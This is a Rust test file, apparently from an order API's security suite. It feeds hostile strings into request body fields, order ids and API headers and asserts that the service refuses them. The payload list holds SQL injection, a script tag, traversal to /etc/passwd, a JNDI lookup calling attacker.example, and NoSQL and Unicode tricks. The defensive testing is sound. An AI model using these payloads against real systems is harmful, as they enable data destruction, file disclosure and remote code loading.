//! Unicode and injection strings wherever a string goes: every string field of the body, the
//! order id in the path, and the `Idempotency-Key` and `X-API-Key` headers.

use reqwest::header::HeaderValue;

use super::*;

/// Strings an attacker tries in every string field.
fn payloads() -> Vec<String> {
    let mut p: Vec<String> = [
        "' OR '1'='1",
        "'; DROP TABLE orders; --",
        "\" OR \"\"=\"",
        "1; SELECT pg_sleep(10)",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%00",
        "\u{0000}",
        "US\u{0000}",
        "\u{202E}SU",
        "🇺🇸",
        "ＵＳ",
        "cаrd",
        "Ünïcödé ✓ 漢字 عربي",
        "\u{FEFF}US",
        "US ",
        "\n\r\t",
        "",
        "{\"$gt\": \"\"}",
        "\\x00\\xff",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    p.push("x".repeat(10_000));
    p
}

fn shown(payload: &str) -> String {
    payload.chars().take(24).collect()
}

pub fn attacks(app: &TestApp) -> Vec<Attack> {
    let mut a = Attacks::new(app);
    in_body_fields(&mut a);
    in_the_order_id(&mut a);
    in_header_values(&mut a);
    a.into_list()
}

fn in_body_fields(a: &mut Attacks) {
    for payload in payloads() {
        for field in ["country", "payment_method", "product_id"] {
            a.json(
                format!("string: {field} = {:?}", shown(&payload)),
                body_with(field, json!(payload)),
            );
        }
    }
}

fn in_the_order_id(a: &mut Attacks) {
    for payload in payloads() {
        let id: String = payload
            .bytes()
            .take(200)
            .map(|b| format!("%{b:02X}"))
            .collect();
        let lookup = a
            .app
            .client
            .get(a.app.url(&format!("/api/v1/orders/{id}")))
            .bearer_auth(ALICE_KEY);
        a.add(format!("string: order id {:?}", shown(&payload)), lookup);
    }
}

fn in_header_values(a: &mut Attacks) {
    for payload in payloads() {
        // Bytes a header cannot hold (NUL, line breaks) never reach the server.
        let Ok(value) = HeaderValue::from_bytes(payload.as_bytes()) else {
            continue;
        };
        // With a body that fails validation: the key must not matter either way.
        let keyed = a
            .checkout()
            .header("Idempotency-Key", value.clone())
            .json(&body_with("quantity", json!(0)));
        a.add(
            format!("string: Idempotency-Key {:?}", shown(&payload)),
            keyed,
        );
        let api_key = a
            .app
            .checkout_request(None)
            .header("X-API-Key", value)
            .json(&basket(&[("p-1", 1)]));
        a.add(format!("string: X-API-Key {:?}", shown(&payload)), api_key);
    }
}

#[tokio::test]
async fn hostile_strings_in_body_fields_are_refused() {
    let app = target(TestApp::builder()).await;
    let mut a = Attacks::new(&app);
    in_body_fields(&mut a);
    assert_refused(&app, "strings in fields", a.into_list()).await;
}

#[tokio::test]
async fn hostile_order_ids_are_not_found() {
    let app = target(TestApp::builder()).await;
    let mut a = Attacks::new(&app);
    in_the_order_id(&mut a);
    assert_refused(&app, "strings as order ids", a.into_list()).await;
}

#[tokio::test]
async fn hostile_keys_in_headers_are_refused() {
    let app = target(TestApp::builder()).await;
    let mut a = Attacks::new(&app);
    in_header_values(&mut a);
    assert_refused(&app, "strings in headers", a.into_list()).await;
}
